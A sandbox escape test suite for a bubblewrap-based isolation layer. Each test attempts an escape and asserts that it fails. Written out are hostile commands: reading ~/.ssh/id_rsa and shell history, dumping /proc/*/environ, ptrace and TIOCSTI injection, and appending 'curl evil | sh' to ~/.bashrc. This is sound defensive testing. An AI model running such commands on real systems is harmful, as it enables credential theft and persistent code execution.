/**
 * Escape tests: each tries to get out of the sandbox the way an attacker would, and must fail. Every test
 * runs as root and as an unprivileged user (created with useradd when the suite runs as root). Nothing here
 * is mocked: real bwrap, real sockets, real processes.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import {
  cleanup, identities, mkdirOwned, processesWith, runSandboxed, scratch, skipWithoutBwrap, startOrigin, startTcpListener,
  startUnixProxy, writeOwned, hasBwrap, assertCheckoutReadable, type Identity,
} from './sandbox-helpers.js';
import type { FilesystemView } from '../src/policy/engine.js';

const bwrapModule = new URL('../src/sandbox/bubblewrap.js', import.meta.url).pathname;

for (const identity of identities()) {
  describe(`escape attempts as ${identity.name}`, { skip: skipWithoutBwrap }, () => {
    let home: string;
    let outside: string;
    let readOnly: string;
    let view: FilesystemView;
    const base = (): { home: string; cwd: string; view: FilesystemView; user?: Identity['user'] } => ({
      home,
      cwd: join(home, 'work'),
      view,
      ...(identity.user ? { user: identity.user } : {}),
    });

    before(() => {
      assertCheckoutReadable(identity);
      assert.ok(hasBwrap, 'bwrap is required (GATEHOUSE_REQUIRE_SANDBOX=1): apt-get install bubblewrap');
      home = scratch(identity, 'home');
      outside = scratch(identity, 'outside');
      readOnly = scratch(identity, 'ro');
      mkdirOwned(identity, join(home, '.ssh'));
      writeOwned(identity, join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n');
      writeOwned(identity, join(home, '.bash_history'), 'export TOKEN=hunter2\n');
      writeOwned(identity, join(home, 'secret.txt'), 'denied by policy\n');
      writeOwned(identity, join(home, '.bashrc'), '# the user\'s own\n');
      mkdirOwned(identity, join(home, 'work'));
      writeOwned(identity, join(outside, 'outside.txt'), 'not for the sandbox\n');
      writeOwned(identity, join(readOnly, 'readme.txt'), 'read me\n', 0o644);
      // The worst realistic policy: the whole home writable, one file denied.
      view = {
        allow: [
          { path: home, access: 'rw', ruleId: 'home' },
          { path: readOnly, access: 'ro', ruleId: 'docs' },
        ],
        deny: [{ path: join(home, 'secret.txt'), access: 'all', ruleId: 'no-secret' }],
        unmountable: [],
      };
    });
    after(() => cleanup(home, outside, readOnly));

    test('cannot read a planted ~/.ssh/id_rsa or shell history, even with HOME writable', async () => {
      const result = await runSandboxed({ ...base(), command: ['sh', '-c', 'cat ~/.ssh/id_rsa; ls -A ~/.ssh | wc -l; cat ~/.bash_history; echo done'] });
      assert.equal(result.code, 0, result.stderr);
      assert.doesNotMatch(result.stdout, /PRIVATE KEY|hunter2/);
      assert.match(result.stdout, /^0\ndone\n$/m);
      // And it cannot plant a key either: the mask is read-only.
      const write = await runSandboxed({ ...base(), command: ['sh', '-c', 'echo evil > ~/.ssh/authorized_keys'] });
      assert.notEqual(write.code, 0);
      assert.equal(existsSync(join(home, '.ssh', 'authorized_keys')), false);
    });

    test('a file the policy denies reads as empty', async () => {
      const result = await runSandboxed({ ...base(), command: ['cat', join(home, 'secret.txt')] });
      assert.equal(result.stdout, '');
    });

    test('cannot write outside the writable paths', async () => {
      const script = [
        `echo x > ${join(outside, 'planted')}`,
        `echo x > ${join(readOnly, 'planted')}`,
        'echo x > /usr/planted',
        'echo x > /etc/planted',
        `cat ${join(outside, 'outside.txt')}`,
        `echo ok > ${join(home, 'work', 'written')}`,
        `cat ${join(readOnly, 'readme.txt')}`,
      ].join('; ');
      const result = await runSandboxed({ ...base(), command: ['sh', '-c', script] });
      assert.equal(existsSync(join(outside, 'planted')), false);
      assert.equal(existsSync(join(readOnly, 'planted')), false);
      assert.equal(existsSync('/usr/planted'), false);
      assert.equal(existsSync('/etc/planted'), false);
      assert.doesNotMatch(result.stdout, /not for the sandbox/);
      assert.match(result.stdout, /read me/);
      assert.equal(readFileSync(join(home, 'work', 'written'), 'utf8'), 'ok\n');
    });

    test("cannot connect to a TCP listener on the host's 127.0.0.1", async () => {
      const listener = await startTcpListener();
      try {
        const script = `const s = require('node:net').connect(${listener.port}, '127.0.0.1');
          s.on('connect', () => console.log('connected')); s.on('error', (e) => console.log('error ' + e.code));`;
        const result = await runSandboxed({ ...base(), command: [process.execPath, '-e', script] });
        assert.match(result.stdout, /error ECONNREFUSED/);
        const curl = await runSandboxed({ ...base(), command: ['curl', '-sS', '--max-time', '3', '--noproxy', '*', `http://127.0.0.1:${listener.port}/`] });
        assert.notEqual(curl.code, 0);
        assert.equal(listener.accepted(), 0);
      } finally {
        await listener.close();
      }
    });

    test('cannot connect to a host Unix socket, even one inside a visible directory', async () => {
      const socketPath = join(home, 'work', 'host.sock');
      let accepted = 0;
      const server: Server = createServer((socket) => {
        accepted += 1;
        socket.end('host socket\n');
      });
      await new Promise<void>((resolve) => server.listen(socketPath, resolve));
      try {
        const script = `const s = require('node:net').connect(${JSON.stringify(socketPath)});
          s.on('connect', () => console.log('connected')); s.on('error', (e) => console.log('error ' + e.code));`;
        const result = await runSandboxed({ ...base(), command: [process.execPath, '-e', script] });
        assert.match(result.stdout, /error (EACCES|EPERM)/);
        const run = await runSandboxed({ ...base(), command: ['sh', '-c', 'ls -A /run /var/run 2>&1'] });
        assert.doesNotMatch(run.stdout, /docker\.sock|dbus|systemd|ssh/);
        assert.equal(accepted, 0);
      } finally {
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
    });

    test('cannot resolve DNS or open a connection anywhere without the proxy', async () => {
      const script = `const dns = require('node:dns'); const net = require('node:net');
        dns.lookup('example.com', (e) => console.log('dns ' + (e ? e.code : 'resolved')));
        setTimeout(() => process.exit(0), 3000).unref();
        const s = net.connect(53, '10.0.0.1'); s.on('connect', () => console.log('tcp connected')); s.on('error', (e) => console.log('tcp ' + e.code));
        const d = require('node:dgram').createSocket('udp4'); d.send('x', 53, '8.8.8.8', (e) => { console.log('udp ' + (e ? e.code : 'sent')); d.close(); });`;
      const result = await runSandboxed({ ...base(), command: [process.execPath, '-e', script] });
      assert.doesNotMatch(result.stdout, /resolved|tcp connected|udp sent/);
      assert.match(result.stdout, /tcp ENETUNREACH/);
      assert.match(result.stdout, /dns (EAI_AGAIN|ENOTFOUND)/);
      assert.match(result.stdout, /udp ENETUNREACH/);
    });

    test('reaches an allowed server through the proxy, and a denied host gets the proxy refusal', async () => {
      const origin = await startOrigin();
      const proxyDir = scratch({ name: 'host' }, 'proxy');
      const proxySocket = join(proxyDir, 'session.sock');
      const proxy = await startUnixProxy(proxySocket, ['origin.test']);
      try {
        const script = `curl -sS --max-time 5 http://origin.test:${origin.port}/through-proxy; echo; curl -s -o /dev/null -w '%{http_code}' --max-time 5 http://denied.test/`;
        const result = await runSandboxed({ ...base(), proxySocket, command: ['sh', '-c', script] });
        assert.match(result.stdout, /hello from \/through-proxy/);
        assert.match(result.stdout, /403$/);
        assert.deepEqual(proxy.seen, [`GET origin.test:${origin.port}`, 'GET denied.test']);
      } finally {
        await proxy.close();
        await origin.close();
        cleanup(proxyDir);
      }
    });

    test("cannot read the parent's environment through /proc", async () => {
      const envSource = { ...process.env, GH_TEST_SECRET: 'topsecret-parent-value' };
      process.env.GH_TEST_SECRET_SELF = 'topsecret-parent-value';
      try {
        const script = `env; for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | tr '\\0' '\\n'; done; ls /proc | grep -c '^[0-9]'`;
        const result = await runSandboxed({ ...base(), envSource, command: ['sh', '-c', script] });
        assert.equal(result.code, 0, result.stderr);
        assert.doesNotMatch(result.stdout, /topsecret/);
        // Only the sandbox's own few processes are visible (new PID namespace).
        const count = Number(result.stdout.trim().split('\n').at(-1));
        assert.ok(count > 0 && count < 10, `saw ${count} processes`);
      } finally {
        delete process.env.GH_TEST_SECRET_SELF;
      }
    });

    test('cannot ptrace any process', async () => {
      // ptrace(PTRACE_ATTACH=16, 1) and ptrace(PTRACE_TRACEME=0).
      const script = 'my $r = syscall(101, 16, 1, 0, 0); print "attach $r $!\\n"; $r = syscall(101, 0, 0, 0, 0); print "traceme $r $!\\n";';
      const number = process.arch === 'arm64' ? 117 : 101;
      const result = await runSandboxed({ ...base(), command: ['perl', '-e', script.replaceAll('101', String(number))] });
      assert.match(result.stdout, /attach -1 Operation not permitted/);
      assert.match(result.stdout, /traceme -1 Operation not permitted/);
    });

    test('no process outlives a killed parent', async () => {
      const marker = `gh-orphan-${process.pid}-${identity.name}`;
      const helper = join(home, 'work', 'parent.mjs');
      writeFileSync(
        helper,
        `import { launchBubblewrap } from ${JSON.stringify(bwrapModule)};
         const spec = JSON.parse(process.argv[2]);
         await launchBubblewrap(spec);
         setTimeout(() => console.log('ready'), 300);
         // Bounded: if the test never kills it, it goes away by itself.
         setTimeout(() => process.exit(0), 60000);`,
      );
      const sleeper = (seconds: number): string => `sh -c 'sleep ${seconds}; echo ${marker}'`;
      const spec = { ...base(), stdio: 'pipe', command: ['sh', '-c', `(setsid ${sleeper(3600)} &) ; nohup ${sleeper(3601)} & ${sleeper(3602)}`] };
      const parent = spawn(process.execPath, [helper, JSON.stringify(spec)], { stdio: ['ignore', 'pipe', 'inherit'] });
      try {
        await new Promise<void>((resolve, reject) => {
          parent.stdout.once('data', () => resolve());
          parent.once('exit', () => reject(new Error('the parent exited before the sandbox started')));
        });
        assert.ok(processesWith(marker).length >= 2, 'the sandboxed sleepers started');
        parent.kill('SIGKILL');
        const deadline = Date.now() + 5000;
        while (processesWith(marker).length > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
        assert.deepEqual(processesWith(marker), []);
      } finally {
        parent.kill('SIGKILL');
      }
    });

    test('cannot push input into its terminal with TIOCSTI', async () => {
      // `script` gives the program a real pseudo-terminal as its controlling terminal inside the sandbox.
      const perl = `perl -e 'my $c = "x"; if (ioctl(STDIN, 0x5412, $c)) { print "pushed\\n" } else { print "refused: $!\\n" }'`;
      const result = await runSandboxed({ ...base(), command: ['script', '-qec', perl, '/dev/null'] });
      assert.match(result.stdout, /refused: Operation not permitted/);
      assert.doesNotMatch(result.stdout, /pushed/);
    });

    test('holds no capabilities and cannot change kernel settings', async () => {
      const script = 'grep CapEff /proc/self/status; echo 1 > /proc/sys/vm/drop_caches && echo sysctl-written; echo core > /proc/sys/kernel/core_pattern && echo core-written; true';
      const result = await runSandboxed({ ...base(), command: ['sh', '-c', script] });
      assert.match(result.stdout, /CapEff:\s+0+\n/);
      assert.doesNotMatch(result.stdout, /written/);
    });

    test('cannot plant code in ~/.bashrc that would run after the sandbox ends', async () => {
      const result = await runSandboxed({ ...base(), command: ['sh', '-c', 'echo "curl evil | sh" >> ~/.bashrc; rm -f ~/.bashrc; mv ~/.bashrc ~/x'] });
      assert.notEqual(result.code, 0);
      assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), "# the user's own\n");
    });
  });
}
